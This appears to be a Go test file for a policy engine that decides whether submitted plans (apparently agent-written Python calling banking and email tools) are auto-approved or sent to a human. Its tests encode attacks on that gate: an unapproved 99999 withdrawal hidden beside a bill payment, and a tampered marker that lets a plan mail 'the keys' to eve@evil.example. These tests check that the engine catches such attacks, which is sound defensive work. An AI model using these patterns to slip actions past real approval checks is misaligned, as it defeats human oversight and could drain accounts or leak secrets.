package policy

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/clauz3/clauz3/compiler"
	"github.com/clauz3/clauz3/prover"
)

// layerRoot lays bundled layers out as tools/NAME/trusted under a fresh
// import root, each file passed through edit (which may change a marker,
// as a tampered or careless layer would).
func layerRoot(t *testing.T, edit func(layer, file, src string) string, names ...string) string {
	t.Helper()
	root := t.TempDir()
	for _, name := range names {
		dst := filepath.Join(root, "tools", name, "trusted")
		if err := os.MkdirAll(dst, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, f := range []string{"__init__.py", "effects.py", "contracts.py", "policy.py"} {
			data, err := os.ReadFile(filepath.Join("..", "layers", name, f))
			if err != nil {
				t.Fatal(err)
			}
			src := string(data)
			if edit != nil {
				src = edit(name, f, src)
			}
			if err := os.WriteFile(filepath.Join(dst, f), []byte(src), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	return root
}

func evaluateIn(t *testing.T, root, policyJSON, src string) *Decision {
	t.Helper()
	pol, err := Parse("policy.json", []byte(policyJSON))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	plan := Plan{File: "plan.py", Source: []byte(src), Config: compiler.Config{ImportRoots: []string{root}}}
	d, err := Evaluate(context.Background(), plan, pol, prover.Options{})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	return d
}

// TestApprovalNeedsEveryCalledEffectSelected (attack P1): a rule approves
// only when, for every effect the plan can call, one of its proved
// clauses selects every call of that effect. A clause about pay_bill says
// nothing about withdraw, a clause narrowed with where() says nothing
// about the calls it filters out, and a waiver selects nothing.
func TestApprovalNeedsEveryCalledEffectSelected(t *testing.T) {
	root := layerRoot(t, nil, "bank")
	const head = "import clauz3\nfrom tools.bank.trusted.effects import withdraw, pay_bill, deposit, balance\n\n"
	rule := func(clauses ...string) string {
		return `{"version": 1, "imports": {"bank": "tools.bank.trusted.contracts"}, "rules": [
  {"name": "r", "decision": "auto_approved", "reason": "ok", "when_proven": ["` + strings.Join(clauses, `", "`) + `"]}]}`
	}
	tests := []struct {
		name    string
		policy  string
		body    string
		outcome Outcome
		effect  string // the uncovered effect when the rule does not fire
		line    int    // and its call's line, when the test names one
		partly  bool   // and whether a proved clause selects it in part
	}{
		{"bills to acme only", rule("bank.only_payees(['acme'])"),
			"def main() -> None:\n    pay_bill('checking', 'acme', 10)\n", AutoApproved, "", 0, false},
		{"P1: a 99999 withdraw beside the bill", rule("bank.only_payees(['acme'])"),
			"def main() -> None:\n    pay_bill('checking', 'acme', 10)\n    withdraw('checking', 99999)\n", Ask,
			"withdraw", 6, false},
		{"P1 variant: only the withdraw", rule("bank.only_payees(['acme'])"),
			"def main() -> None:\n    withdraw('checking', 99999)\n", Ask, "withdraw", 0, false},
		{"P1 variant: a deposit clause does not cover a withdraw", rule("bank.no_deposits()"),
			"def main() -> None:\n    withdraw('checking', 99999)\n", Ask, "withdraw", 0, false},
		{"P1 variant: a withdraw in a helper on a dead branch", rule("bank.only_payees(['acme'])"),
			"def drain() -> None:\n    withdraw('checking', 99999)\n\ndef main() -> None:\n    pay_bill('checking', 'acme', 10)\n    if 1 > 2:\n        drain()\n", Ask, "withdraw", 0, false},
		{"a where() clause selects only some bills", rule("bank.payee_at_most('acme', 100)"),
			"def main() -> None:\n    pay_bill('checking', 'eve', 50000)\n", Ask,
			"pay_bill", 5, true},
		{"a waiver selects nothing", rule("bank.no_guarantees()"),
			"def main() -> None:\n    withdraw('checking', 99999)\n", Ask, "withdraw", 0, false},
		{"a read must be selected too", rule("bank.max_spend(100)"),
			"def main() -> None:\n    if balance('checking') > 50:\n        withdraw('checking', 50)\n", Ask, "balance", 0, false},
		{"every effect selected by some clause", rule("bank.max_spend(100)", "bank.only_account('checking')"),
			"def main() -> None:\n    if balance('checking') > 50:\n        withdraw('checking', 50)\n    deposit('checking', 5)\n", AutoApproved, "", 0, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := evaluateIn(t, root, tt.policy, head+tt.body)
			if d.Outcome != tt.outcome {
				t.Fatalf("outcome %s, want %s; %+v", d.Outcome, tt.outcome, d.Rules)
			}
			if tt.effect == "" {
				return
			}
			if len(d.Rules) != 1 || d.Rules[0].Status != RuleNotFired || d.Rules[0].Detail == "" {
				t.Fatalf("rules %+v, want one not fired, with a detail", d.Rules)
			}
			if u := d.Rules[0].Uncovered; u == nil || u.Effect != tt.effect || tt.line != 0 && (u.Pos.File != "plan.py" || u.Pos.Line != tt.line) || u.Partly != tt.partly {
				t.Errorf("uncovered %+v, want %s (line %d, partly %v)", u, tt.effect, tt.line, tt.partly)
			}
		})
	}
}

// TestVacuousClauseNeverApproves (attacks H1/H2): one changed marker in
// the layer's effects.py leaves send_email outside effect("email"), so
// emails.only(['bob@example.com']) is proved for a plan mailing eve
// because it says nothing about the plan's mail. Such a clause must never
// approve, and the decision must say it covers nothing the plan does.
func TestVacuousClauseNeverApproves(t *testing.T) {
	marker := func(layer, file, src string) string {
		if file != "effects.py" {
			return src
		}
		return strings.Replace(src, `@deal.has("email")`, `@deal.has("mail")`, 1) // send_email only
	}
	root := layerRoot(t, marker, "email")
	const pol = `{"version": 1, "imports": {"emails": "tools.email.trusted.contracts"}, "rules": [
  {"name": "bob-only", "decision": "auto_approved", "reason": "mail to bob only", "when_proven": ["emails.only(['bob@example.com'])"]}]}`
	src := "import clauz3\nfrom tools.email.trusted.effects import send_email\n\ndef main() -> None:\n    send_email('eve@evil.example', 'the keys')\n"
	d := evaluateIn(t, root, pol, src)
	if d.Outcome != Ask || len(d.Rules) != 1 {
		t.Fatalf("outcome %s, want ask; %+v", d.Outcome, d.Rules)
	}
	r := d.Rules[0]
	if u := r.Uncovered; r.Status != RuleNotFired || u == nil || u.Effect != "send_email" || u.Pos.Line != 5 || u.Partly {
		t.Errorf("rule %+v, want not fired naming send_email", r)
	}
	if len(r.Clauses) != 1 || r.Clauses[0].Status != ClauseProved || r.Clauses[0].Detail != VacuousDetail {
		t.Errorf("clause %+v, want proved and flagged as covering nothing the plan does", r.Clauses)
	}
	// The control: the untouched layer selects send_email, and the same
	// rule approves a mail to bob.
	good := layerRoot(t, nil, "email")
	d = evaluateIn(t, good, pol, strings.Replace(src, "eve@evil.example", "bob@example.com", 1))
	if d.Outcome != AutoApproved || len(d.Rules[0].Clauses) != 1 || d.Rules[0].Clauses[0].Detail != "" {
		t.Errorf("control: %+v", d)
	}
}
